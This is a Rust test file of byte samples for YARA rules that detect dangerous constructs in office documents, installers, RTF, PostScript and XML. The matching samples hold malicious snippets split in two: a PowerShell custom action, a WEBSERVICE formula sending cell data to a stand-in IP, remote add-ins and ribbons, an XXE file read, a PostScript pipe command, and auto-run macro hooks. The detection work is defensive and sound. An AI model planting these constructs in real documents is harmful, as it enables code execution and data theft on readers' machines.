//! Samples of `objects.yar`.

use super::{CFB, DOS_HEAD, Sample, sample};

const ONE: &[u8] = b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3";
const ONE_FILE: &[u8] = b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac";
const PACKAGE: &[u8] = b"\x84\x10\x0c\0\0\0\0\0\xc0\0\0\0\0\0\0\x46";
/// A library: IMAGE_FILE_DLL at 22 of the PE header at 0x40.
const DLL: &[u8] = b"PE\0\0\x4c\x01\x01\0\0\0\0\0\0\0\0\0\0\0\0\0\xe0\0\x02\x21";
const PROGRAM: &[u8] = b"PE\0\0\x4c\x01\x01\0\0\0\0\0\0\0\0\0\0\0\0\0\xe0\0\x02\x01";

pub const SAMPLES: &[Sample] = &[
    sample(
        "OneNote_Attachment_Runs",
        &[ONE, ONE_FILE, &[0; 20], b"<scr", b"ipt>var a;</script>"],
        &[ONE, ONE_FILE, &[0; 20], b"\x89PNG\r\n"],
    ),
    sample("OneNote_Attachment_Runs", &[ONE, b"a\0.\0h\0t", b"\0a\0\0\0"], &[ONE, b"a\0.\0p\0d\0f\0\0\0"]),
    sample(
        "Compiled_Help_With_Program",
        &[b"ITSF\x03\0\0\0", &[0; 88], b"\x07/a.h", b"ta\x01\0\0"],
        &[b"ITSF\x03\0\0\0", &[0; 88], b"\x0a/index.htm\x01\0\0"],
    ),
    sample(
        "Installer_Runs_Script",
        &[CFB, PACKAGE, b"CustomActionTypeSourceTargetpower", b"shell -c calc"],
        &[CFB, PACKAGE, b"CustomActionTypeSourceTargetINSTALLDIR"],
    ),
    sample(
        "Browser_Control_In_Document",
        &[CFB, b"\xc3\x2a\xb2\xea\xc1\x30\xcf\x11", b"\xa7\xeb\0\0\xc0\x5b\xae\x0b"],
        &[CFB, b"\x06\x09\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46"],
    ),
    sample(
        "Presentation_Action_Runs_Program",
        &[b"<a:hlinkClick r:id=\"rId2\" action=\"ppac", b"tion://program\"/>"],
        &[b"<a:hlinkClick r:id=\"rId2\" action=\"ppaction://hlinksldjump\"/>"],
    ),
    sample(
        "Remote_Frame_Or_Ribbon",
        &[b"<Relationship Id=\"rId1\" Type=\"http://schemas.microsoft.com/office/2006/relationships/ui/exten", b"sibility\" Target=\"https://192.0.2.1/a.xml\" TargetMode=\"External\"/>"],
        &[b"<Relationship Id=\"rId1\" Type=\"http://schemas.microsoft.com/office/2006/relationships/ui/extensibility\" Target=\"customUI/customUI.xml\"/>"],
    ),
    sample(
        "Auto_Open_Name_In_Workbook",
        &[b"<definedName name=\"_xlnm.Auto_", b"Open\" hidden=\"1\">Macro1!$A$1</definedName>"],
        &[b"<definedName name=\"_xlnm.Print_Area\">Sheet1!$A$1:$C$9</definedName>"],
    ),
    sample(
        "Cell_Formula_Calls_System",
        &[b"<c r=\"A1\"><f>_xlfn.WEBSER", b"VICE(\"http://192.0.2.1/?\"&amp;B1)</f></c>"],
        &[b"<c r=\"A1\"><f>HYPERLINK(\"https://example.org\")</f></c>"],
    ),
    sample(
        "Add_In_From_Web",
        &[b"<property name=\"_Assembly", b"Location\" pid=\"2\"><vt:lpwstr>https://192.0.2.1/a.vsto|x</vt:lpwstr>"],
        &[b"<property name=\"Location\" pid=\"2\"><vt:lpwstr>https://example.org/</vt:lpwstr>"],
    ),
    sample(
        "Excel_Add_In_Library",
        &[b"MZ", &[0; 0x3A], b"\x40\0\0\0", DLL, b"xlAuto", b"Open"],
        &[b"MZ", &[0; 0x3A], b"\x40\0\0\0", PROGRAM, b"xlAutoOpen"],
    ),
    sample(
        "ODF_Event_Runs_Script",
        &[b"<script:event-listener script:event-name=\"dom:lo", b"ad\" xlink:href=\"vnd.sun.star.script:Standard.M.Main?language=Basic\"/>"],
        &[b"<script:event-listener script:event-name=\"dom:load\" xlink:href=\"#here\"/>"],
    ),
    sample(
        "ODF_Link_Runs_Command",
        &[b"<text:a xlink:href=\"vnd.libre", b"office.command:.uno:Quit\">"],
        &[b"<text:a xlink:href=\"https://example.org/macro\">"],
    ),
    sample(
        "RTF_Package_Object",
        &[b"{\\rtf1{\\object\\objemb{\\*\\objclass Pack", b"age}{\\*\\objdata 0105}}}"],
        &[b"{\\rtf1{\\object\\objemb{\\*\\objclass Excel.Sheet.12}{\\*\\objdata 0105}}}"],
    ),
    sample(
        "RTF_Header_Cut_Short",
        &[b"{\\rt{\\object{\\*\\obj", b"data 0105}}}"],
        &[b"{\\rtf1{\\object{\\*\\objdata 0105}}}"],
    ),
    sample(
        "PostScript_Runs_Command",
        &[b"%!PS-Adobe-3.0\n(%pi", b"pe%calc) (w) file closefile\n"],
        &[b"%!PS-Adobe-3.0\n(a pipe) show showpage\n"],
    ),
    sample(
        "Style_Sheet_Runs_Script",
        &[b"<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><msx", b"sl:script language=\"C#\"/></xsl:stylesheet>"],
        &[b"<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"/></xsl:stylesheet>"],
    ),
    sample(
        "XML_Entity_Reads_File",
        &[b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"fi", b"le:///etc/hostname\">]><a>&x;</a>"],
        &[b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x \"file:///etc\">]><a>&x;</a>"],
    ),
    sample("PE_Inside_Other_Bytes", &[b"PK ", DOS_HEAD, &[0; 0x3C - 14], b"\x40\0\0\0PE\0\0\x4c\x01"], &[b"PK ", DOS_HEAD]),
];
